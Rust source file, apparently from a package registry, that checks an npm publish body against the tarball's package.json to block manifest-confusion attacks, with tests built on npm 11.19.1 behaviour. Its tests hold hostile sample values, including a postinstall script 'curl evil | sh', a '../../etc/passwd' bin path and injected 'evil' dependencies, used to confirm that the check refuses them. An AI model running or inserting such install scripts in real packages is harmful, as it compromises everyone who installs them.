//! Manifest confusion: a publish carries the version manifest twice, in the body
//! (what the packument serves: installs resolve dependencies, `hasInstallScript` and
//! bins from it) and in the tarball (what lands in `node_modules`: `npm ci`, rebuilds
//! and lifecycle scripts read it). The registry refuses a publish whose two copies
//! disagree on anything that changes what an install fetches or runs.
//!
//! The npm CLI does not send the file as written: it normalises it first and packs
//! the original. What npm 11.19.1 changes (observed by publishing real packages to a
//! capturing server and comparing the body with the tarball's `package.json`):
//! - `version` is `semver.clean`ed: `v1.0.6` → `1.0.6`, ` 2.0.0 ` → `2.0.0`,
//!   `1.0.5+evil` → `1.0.5`.
//! - `bin` (npm-normalize-package-bin): a string becomes `{<name without scope>: path}`,
//!   an array `{<basename>: path}`; keys are reduced to their base name (`@x/three` →
//!   `three`, `../evil` → `evil`, `c:d` → `d`), targets are normalised (`./cli.js` →
//!   `cli.js`, `bin//two.js` → `bin/two.js`, `../../etc/passwd` → `etc/passwd`,
//!   `a\b.js` → `a/b.js`); empty or non-string entries are dropped, an empty `bin`
//!   removed.
//! - `directories.bin` without `bin`: `bin` is built from a listing of that folder on
//!   the publisher's disk, including files the package does not ship.
//! - `scripts`: non-string entries dropped, a leading `node_modules/.bin/` removed;
//!   `install: "node-gyp rebuild"` (and `gypfile: true`) added when a root `*.gyp` file
//!   exists on disk (shipped or not), there is no `install`/`preinstall` and `gypfile`
//!   is not `false`; `start: "node server.js"` added when `server.js` exists on disk.
//!   `prepare`, `prepublish`, `prepublishOnly` and the rest pass unchanged.
//! - `bundledDependencies` is renamed `bundleDependencies` (which wins when both are
//!   given), `true` becomes the list of `dependencies`, `false` becomes `[]`.
//! - Unchanged: `dependencies`, `optionalDependencies` (not merged into
//!   `dependencies`), `peerDependencies`, `peerDependenciesMeta`, `acceptDependencies`,
//!   `engines` (also in its old array form), `os`, `cpu`, `libc` (also as strings),
//!   `workspaces`.
//! - Also observed, not compared here: `repository`, `author`, `contributors`, `man`,
//!   `bugs` and `homepage` are normalised; `_`-prefixed fields are dropped;
//!   `maintainers` and `dist` from the file pass through into the body (the registry
//!   overwrites them); `readme`, `readmeFilename`, `_id`, `_nodeVersion`,
//!   `_npmVersion` and `gitHead` are added.
//!
//! `check` applies the same normalisation to the tarball's copy, allows what npm adds
//! from the publisher's disk (a `directories.bin` listing, the `node-gyp` install
//! script, the `server.js` start script) and refuses every other difference in the
//! compared fields. Older clients that copied `optionalDependencies` into
//! `dependencies` are accepted: dependencies are compared outside the optional ones.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Map, Value};

use super::tarball::TarballFacts;
use super::version;

/// A field on which the body and the tarball disagree.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "the publish body and the tarball's package.json disagree on {field} (body: {body}, \
     tarball: {tarball}); publish with the npm CLI, which sends both from one package.json"
)]
pub struct Disagreement {
    pub field: String,
    pub body: String,
    pub tarball: String,
}

/// Fields compared as they are (after treating `null`, `{}` and `[]` as absent).
const VERBATIM: &[&str] = &[
    "optionalDependencies",
    "peerDependencies",
    "peerDependenciesMeta",
    "acceptDependencies",
    "engines",
    "os",
    "cpu",
    "libc",
];

/// Checks that the body's version manifest and the tarball's `package.json` agree on
/// name, version, dependencies, bundled dependencies, scripts, bins, engines and
/// platform fields.
pub fn check(body: &Map<String, Value>, tarball: &TarballFacts) -> Result<(), Disagreement> {
    let file = &tarball.manifest;
    same("name", body.get("name"), file.get("name"))?;
    let body_version = body
        .get("version")
        .and_then(Value::as_str)
        .map(version::key);
    let file_version = file
        .get("version")
        .and_then(Value::as_str)
        .and_then(version::clean);
    if body_version.is_none() || body_version != file_version {
        return Err(disagree(
            "version",
            body.get("version"),
            file.get("version"),
        ));
    }
    for field in VERBATIM {
        same(field, body.get(*field), file.get(*field))?;
    }
    same(
        "dependencies",
        without_optional(body).as_ref(),
        without_optional(file).as_ref(),
    )?;
    let (body_bundled, file_bundled) = (bundled(body), bundled(file));
    if body_bundled != file_bundled {
        return Err(disagree_text(
            "bundleDependencies",
            &format!("{body_bundled:?}"),
            &format!("{file_bundled:?}"),
        ));
    }
    check_scripts(body, file, tarball.has_gyp_file)?;
    check_bin(body, file)
}

fn meaningful(value: Option<&Value>) -> Option<&Value> {
    match value {
        None | Some(Value::Null) => None,
        Some(Value::Object(m)) if m.is_empty() => None,
        Some(Value::Array(a)) if a.is_empty() => None,
        other => other,
    }
}

fn same(field: &str, body: Option<&Value>, file: Option<&Value>) -> Result<(), Disagreement> {
    let (b, f) = (meaningful(body), meaningful(file));
    if b == f {
        Ok(())
    } else {
        Err(disagree(field, b, f))
    }
}

fn shown(value: Option<&Value>) -> String {
    value.map_or_else(|| "absent".to_owned(), Value::to_string)
}

fn disagree(field: &str, body: Option<&Value>, file: Option<&Value>) -> Disagreement {
    disagree_text(field, &shown(body), &shown(file))
}

fn disagree_text(field: &str, body: &str, file: &str) -> Disagreement {
    let cut = |s: &str| {
        if s.chars().count() > 200 {
            format!("{}…", s.chars().take(200).collect::<String>())
        } else {
            s.to_owned()
        }
    };
    Disagreement {
        field: field.to_owned(),
        body: cut(body),
        tarball: cut(file),
    }
}

/// `dependencies` without the names that are also optional (optional wins in npm).
fn without_optional(manifest: &Map<String, Value>) -> Option<Value> {
    let deps = manifest.get("dependencies")?;
    let Some(map) = deps.as_object() else {
        return Some(deps.clone());
    };
    let optional = manifest
        .get("optionalDependencies")
        .and_then(Value::as_object);
    let kept: Map<String, Value> = map
        .iter()
        .filter(|(name, _)| !optional.is_some_and(|o| o.contains_key(*name)))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    Some(Value::Object(kept))
}

/// `bundleDependencies` as npm normalises it, as a set.
fn bundled(manifest: &Map<String, Value>) -> BTreeSet<String> {
    let value = manifest
        .get("bundleDependencies")
        .or_else(|| manifest.get("bundledDependencies"));
    let names: Vec<String> = match value {
        Some(Value::Bool(true)) => manifest
            .get("dependencies")
            .and_then(Value::as_object)
            .map(|d| d.keys().cloned().collect())
            .unwrap_or_default(),
        Some(Value::Array(items)) => items
            .iter()
            .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
            .collect(),
        Some(Value::Object(map)) => map.keys().cloned().collect(),
        _ => Vec::new(),
    };
    names.into_iter().collect()
}

/// `scripts` as npm normalises them: strings only, without a leading
/// `node_modules/.bin/`.
fn scripts(manifest: &Map<String, Value>) -> BTreeMap<String, String> {
    let entries: Vec<(String, &Value)> = match manifest.get("scripts") {
        Some(Value::Object(map)) => map.iter().map(|(k, v)| (k.clone(), v)).collect(),
        Some(Value::Array(items)) => items
            .iter()
            .enumerate()
            .map(|(i, v)| (i.to_string(), v))
            .collect(),
        _ => Vec::new(),
    };
    entries
        .into_iter()
        .filter_map(|(k, v)| Some((k, strip_bin_prefix(v.as_str()?).to_owned())))
        .collect()
}

/// npm's `/^(\.[/\\])?node_modules[/\\].bin[\\/]/` (its `.` matches any character).
fn strip_bin_prefix(script: &str) -> &str {
    let rest = script
        .strip_prefix("./")
        .or_else(|| script.strip_prefix(".\\"))
        .unwrap_or(script);
    let Some(rest) = rest.strip_prefix("node_modules") else {
        return script;
    };
    let Some(rest) = rest.strip_prefix(['/', '\\']) else {
        return script;
    };
    let mut chars = rest.chars();
    match chars.next() {
        Some(c) if c != '\n' && c != '\r' && c != '\u{2028}' && c != '\u{2029}' => {}
        _ => return script,
    }
    chars
        .as_str()
        .strip_prefix("bin")
        .and_then(|r| r.strip_prefix(['/', '\\']))
        .unwrap_or(script)
}

const GYP_INSTALL: &str = "node-gyp rebuild";
const SERVER_START: &str = "node server.js";

fn check_scripts(
    body: &Map<String, Value>,
    file: &Map<String, Value>,
    has_gyp_file: bool,
) -> Result<(), Disagreement> {
    let sent = scripts(body);
    let mut shipped = scripts(file);
    let gyp_allowed = !shipped.contains_key("install")
        && !shipped.contains_key("preinstall")
        && file.get("gypfile") != Some(&Value::Bool(false));
    if gyp_allowed && has_gyp_file {
        shipped.insert("install".into(), GYP_INSTALL.into());
    }
    let keys: BTreeSet<&String> = sent.keys().chain(shipped.keys()).collect();
    for key in keys {
        let (b, f) = (sent.get(key), shipped.get(key));
        if b == f {
            continue;
        }
        let added_by_npm = f.is_none()
            && match (key.as_str(), b.map(String::as_str)) {
                ("install", Some(GYP_INSTALL)) => gyp_allowed,
                ("start", Some(SERVER_START)) => true,
                _ => false,
            };
        if !added_by_npm {
            let show =
                |s: Option<&String>| s.map_or_else(|| "absent".to_owned(), |s| format!("{s:?}"));
            return Err(disagree_text(&format!("scripts.{key}"), &show(b), &show(f)));
        }
    }
    Ok(())
}

/// Node's `path.basename` (POSIX).
fn basename(path: &str) -> &str {
    let trimmed = path.trim_end_matches('/');
    trimmed.rsplit('/').next().unwrap_or("")
}

/// Node's `path.join('/', path).slice(1)`: `.` and `..` resolved at a root, repeated
/// slashes collapsed, a trailing slash kept.
fn rooted(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    let mut out = parts.join("/");
    if path.ends_with('/') && !out.is_empty() {
        out.push('/');
    }
    out
}

/// `bin` as npm-normalize-package-bin makes it: command → the targets it may point at
/// (several when two keys reduce to one name; npm keeps one of them).
fn bins(manifest: &Map<String, Value>) -> BTreeMap<String, BTreeSet<String>> {
    let mut out: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let pairs: Vec<(String, &Value)> = match manifest.get("bin") {
        Some(Value::String(s)) if !s.is_empty() => match manifest.get("name") {
            Some(Value::String(name)) if !name.is_empty() => {
                vec![(name.clone(), manifest.get("bin").unwrap_or(&Value::Null))]
            }
            _ => Vec::new(),
        },
        Some(Value::Array(items)) if !items.is_empty() => items
            .iter()
            .filter_map(|v| Some((basename(v.as_str()?).to_owned(), v)))
            .collect(),
        Some(Value::Object(map)) => map.iter().map(|(k, v)| (k.clone(), v)).collect(),
        _ => Vec::new(),
    };
    for (key, target) in pairs {
        let base = rooted(basename(&key.replace(['\\', ':'], "/")));
        let Some(target) = target.as_str() else {
            continue;
        };
        let target = rooted(&target.replace('\\', "/"));
        if base.is_empty() || target.is_empty() {
            continue;
        }
        out.entry(base).or_default().insert(target);
    }
    out
}

fn check_bin(body: &Map<String, Value>, file: &Map<String, Value>) -> Result<(), Disagreement> {
    let sent = bins(body);
    let shipped = bins(file);
    let bin_dir = file
        .get("directories")
        .and_then(|d| d.get("bin"))
        .and_then(Value::as_str);
    let agrees = match bin_dir {
        // npm listed the folder on the publisher's disk: every bin must lie inside it.
        Some(dir) if shipped.is_empty() => {
            let dir = rooted(&dir.replace('\\', "/"));
            let prefix = dir.trim_end_matches('/');
            sent.values().flatten().all(|target| {
                prefix.is_empty()
                    || target
                        .strip_prefix(prefix)
                        .is_some_and(|rest| rest.starts_with('/'))
            })
        }
        _ => {
            sent.len() == shipped.len()
                && sent.iter().all(|(name, targets)| {
                    shipped
                        .get(name)
                        .is_some_and(|allowed| targets.len() == 1 && targets.is_subset(allowed))
                })
        }
    };
    if agrees {
        Ok(())
    } else {
        Err(disagree("bin", body.get("bin"), file.get("bin")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn facts(manifest: Value, has_gyp_file: bool) -> TarballFacts {
        TarballFacts {
            manifest: manifest.as_object().unwrap().clone(),
            has_shrinkwrap: false,
            has_binding_gyp: has_gyp_file,
            has_gyp_file,
            file_count: 1,
            unpacked_size: 1,
            tokens: Vec::new(),
        }
    }

    fn agrees(body: Value, file: Value, gyp: bool) -> Result<(), Disagreement> {
        check(body.as_object().unwrap(), &facts(file, gyp))
    }

    /// Pairs captured from `npm publish` (npm 11.19.1): body manifest, tarball file.
    #[test]
    fn what_npm_sends_is_accepted() {
        let cases = [
            (
                json!({"name":"b","version":"1.0.0","bin":{"one":"cli.js","two":"bin/two.js","three":"cli.js"}}),
                json!({"name":"b","version":"1.0.0","bin":{"one":"./cli.js","two":"bin//two.js","@x/three":"cli.js"}}),
                false,
            ),
            (
                json!({"name":"bin-string","version":"1.0.0","bin":{"bin-string":"cli.js"}}),
                json!({"name":"bin-string","version":"1.0.0","bin":"./cli.js"}),
                false,
            ),
            (
                json!({"name":"@sc/scoped-bin","version":"1.0.0","bin":{"scoped-bin":"cli.js"}}),
                json!({"name":"@sc/scoped-bin","version":"1.0.0","bin":"cli.js"}),
                false,
            ),
            (
                json!({"name":"a","version":"1.0.0","bin":{"a.js":"a.js","b.js":"lib/b.js"}}),
                json!({"name":"a","version":"1.0.0","bin":["./a.js","lib/b.js"]}),
                false,
            ),
            (
                json!({"name":"e","version":"1.0.0","bin":{"node":"abs/x.js","win":"a/b.js","evil":"etc/passwd","d":"x.js"}}),
                json!({"name":"e","version":"1.0.0","bin":{"../evil":"../../etc/passwd","node":"/abs/x.js","win":"a\\b.js","c:d":"x.js"}}),
                false,
            ),
            (
                json!({"name":"d","version":"1.0.0","bin":{"sub":"bin/sub","keep":"bin/keep","drop":"bin/drop","deep":"bin/sub/deep"}}),
                json!({"name":"d","version":"1.0.0","directories":{"bin":"bin"},"files":["index.js","bin/keep"]}),
                false,
            ),
            (
                json!({"name":"v","version":"1.0.5"}),
                json!({"name":"v","version":"1.0.5+evil"}),
                false,
            ),
            (
                json!({"name":"v","version":"1.0.6"}),
                json!({"name":"v","version":"v1.0.6"}),
                false,
            ),
            (
                json!({"name":"v","version":"2.0.0"}),
                json!({"name":"v","version":" 2.0.0 "}),
                false,
            ),
            (
                json!({"name":"g","version":"1.0.0","gypfile":true,"scripts":{"install":"node-gyp rebuild"}}),
                json!({"name":"g","version":"1.0.0"}),
                true,
            ),
            // binding.gyp left out of the tarball by `files`: npm still adds the script.
            (
                json!({"name":"g","version":"1.0.0","gypfile":true,"scripts":{"install":"node-gyp rebuild"}}),
                json!({"name":"g","version":"1.0.0","files":["index.js"]}),
                false,
            ),
            (
                json!({"name":"g","version":"1.0.0","gypfile":false}),
                json!({"name":"g","version":"1.0.0","gypfile":false}),
                true,
            ),
            (
                json!({"name":"g","version":"1.0.0","scripts":{"preinstall":"echo pre"}}),
                json!({"name":"g","version":"1.0.0","scripts":{"preinstall":"echo pre"}}),
                true,
            ),
            (
                json!({"name":"s","version":"1.0.0","scripts":{"install":"node-gyp rebuild","preinstall":"x"}}),
                json!({"name":"s","version":"1.0.0","scripts":{"install":"./node_modules/.bin/node-gyp rebuild","postinstall":["x"],"preinstall":"node_modules/.bin/x"}}),
                false,
            ),
            (
                json!({"name":"s","version":"1.0.0","scripts":{"start":"node server.js"}}),
                json!({"name":"s","version":"1.0.0"}),
                false,
            ),
            (
                json!({"name":"p","version":"1.0.0","scripts":{"prepare":"a","prepublish":"b","prepublishOnly":"c","install":"d","postinstall":"e"}}),
                json!({"name":"p","version":"1.0.0","scripts":{"prepare":"a","prepublish":"b","prepublishOnly":"c","install":"d","postinstall":"e"}}),
                false,
            ),
            (
                json!({"name":"b","version":"1.0.0","dependencies":{"dep-a":"^1.0.0"},"bundleDependencies":["dep-a"]}),
                json!({"name":"b","version":"1.0.0","dependencies":{"dep-a":"^1.0.0"},"bundledDependencies":["dep-a"]}),
                false,
            ),
            (
                json!({"name":"b","version":"1.0.0","dependencies":{"dep-a":"^1.0.0"},"bundleDependencies":["dep-a"]}),
                json!({"name":"b","version":"1.0.0","dependencies":{"dep-a":"^1.0.0"},"bundleDependencies":true}),
                false,
            ),
            (
                json!({"name":"b","version":"1.0.0","dependencies":{"a":"1"},"bundleDependencies":[]}),
                json!({"name":"b","version":"1.0.0","dependencies":{"a":"1"},"bundleDependencies":false}),
                false,
            ),
            (
                json!({"name":"b","version":"1.0.0","dependencies":{"a":"1"},"bundleDependencies":["a"]}),
                json!({"name":"b","version":"1.0.0","dependencies":{"a":"1"},"bundleDependencies":["a"],"bundledDependencies":["b"]}),
                false,
            ),
            (
                json!({"name":"p","version":"1.0.0","engines":["node >= 0.4"],"os":"linux","cpu":"x64","libc":"musl"}),
                json!({"name":"p","version":"1.0.0","engines":["node >= 0.4"],"os":"linux","cpu":"x64","libc":"musl"}),
                false,
            ),
            (
                json!({"name":"e","version":"1.0.0","dependencies":{},"scripts":{},"engines":{},"os":[]}),
                json!({"name":"e","version":"1.0.0","dependencies":{},"scripts":{},"bin":{},"engines":{},"os":[]}),
                false,
            ),
            // npm 6 copied optional dependencies into dependencies.
            (
                json!({"name":"o","version":"1.0.0","dependencies":{"a":"1","o":"2"},"optionalDependencies":{"o":"2"}}),
                json!({"name":"o","version":"1.0.0","dependencies":{"a":"1"},"optionalDependencies":{"o":"2"}}),
                false,
            ),
        ];
        for (body, file, gyp) in cases {
            assert_eq!(
                agrees(body.clone(), file.clone(), gyp),
                Ok(()),
                "{body} vs {file}"
            );
        }
    }

    #[test]
    fn hidden_differences_are_refused() {
        let base = json!({"name":"x","version":"1.0.0","dependencies":{"a":"^1"},"scripts":{"test":"t"},
            "bin":{"x":"cli.js"},"engines":{"node":">=18"},"os":["linux"],"cpu":["x64"]});
        let refused = |change: &dyn Fn(&mut Value), field: &str| {
            let mut file = base.clone();
            change(&mut file);
            let err = agrees(base.clone(), file, false).unwrap_err();
            assert_eq!(err.field, field, "{err}");
        };
        refused(&|f| f["dependencies"]["evil"] = json!("1"), "dependencies");
        refused(
            &|f| f["dependencies"]["a"] = json!("github:evil/a"),
            "dependencies",
        );
        refused(
            &|f| f["optionalDependencies"] = json!({"evil": "1"}),
            "optionalDependencies",
        );
        refused(
            &|f| f["peerDependencies"] = json!({"evil": "1"}),
            "peerDependencies",
        );
        refused(
            &|f| f["scripts"]["postinstall"] = json!("curl evil | sh"),
            "scripts.postinstall",
        );
        refused(
            &|f| f["scripts"]["install"] = json!("node-gyp rebuild"),
            "scripts.install",
        );
        refused(&|f| f["scripts"]["test"] = json!("other"), "scripts.test");
        refused(&|f| f["bin"]["npm"] = json!("evil.js"), "bin");
        refused(&|f| f["bin"]["x"] = json!("evil.js"), "bin");
        refused(&|f| f["engines"] = json!({"node": ">=0"}), "engines");
        refused(&|f| f["os"] = json!(["win32"]), "os");
        refused(&|f| f["cpu"] = json!(["arm64"]), "cpu");
        refused(&|f| f["libc"] = json!(["musl"]), "libc");
        refused(
            &|f| f["bundleDependencies"] = json!(["a"]),
            "bundleDependencies",
        );
        refused(&|f| f["version"] = json!("1.0.1"), "version");
        refused(&|f| f["name"] = json!("y"), "name");
        // An undeclared binding.gyp is an install script the body does not show.
        let err = agrees(base.clone(), base.clone(), true).unwrap_err();
        assert_eq!(err.field, "scripts.install");
        // The body cannot add bins outside directories.bin, or any without it.
        let mut file = base.clone();
        file.as_object_mut().unwrap().remove("bin");
        file["directories"] = json!({"bin": "./bin"});
        let mut body = base.clone();
        body["bin"] = json!({"x": "bin/x", "y": "lib/y"});
        assert_eq!(agrees(body, file.clone(), false).unwrap_err().field, "bin");
        let mut body = base.clone();
        body["bin"] = json!({"x": "bin/x"});
        assert_eq!(agrees(body.clone(), file, false), Ok(()));
        let mut plain = base.clone();
        plain.as_object_mut().unwrap().remove("bin");
        assert_eq!(agrees(body, plain, false).unwrap_err().field, "bin");
    }

    #[test]
    fn node_paths() {
        assert_eq!(basename("a/b/"), "b");
        assert_eq!(basename("x"), "x");
        assert_eq!(rooted("../../etc/passwd"), "etc/passwd");
        assert_eq!(rooted("bin//two.js"), "bin/two.js");
        assert_eq!(rooted("./bin/"), "bin/");
        assert_eq!(rooted("."), "");
        assert_eq!(strip_bin_prefix("./node_modules/.bin/tsc -p ."), "tsc -p .");
        assert_eq!(strip_bin_prefix("node_modules\\xbin\\y"), "y");
        assert_eq!(strip_bin_prefix("node_modules/bin/y"), "node_modules/bin/y");
    }
}
